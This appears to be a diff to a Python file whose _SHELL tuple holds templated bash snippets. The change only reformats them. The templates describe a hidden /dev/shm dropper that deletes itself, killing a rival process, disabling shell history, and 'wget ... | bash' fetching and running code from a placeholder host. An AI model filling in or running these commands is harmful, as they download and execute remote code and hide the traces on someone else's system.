@@ -307,8 +307,10 @@ _SHELL = (
         "chmod +x /dev/shm/.%c\n/dev/shm/.%c --%d &\nrm -f /dev/shm/.%c\n"
     ),
     (
-        "#!/bin/bash\nfor %a in 1 2 3; do\n  if ps aux | grep -q '%b'; then\n    kill -9 $(pgrep %b)\n"
-        "  fi\n  sleep %p\ndone\nexport HISTFILE=/dev/null\nwget -q -O - http://%h/%c | bash\n"
+        "#!/bin/bash\nfor %a in 1 2 3; do\n  if ps aux | grep -q '%b'; then\n"
+        "    kill -9 $(pgrep %b)\n"
+        "  fi\n  sleep %p\ndone\nexport HISTFILE=/dev/null\n"
+        "wget -q -O - http://%h/%c | bash\n"
     ),
     (
         '#!/usr/bin/env bash\n%a() {\n  local %b=$1\n  echo "$%b" >> /tmp/%c.log\n}\n'
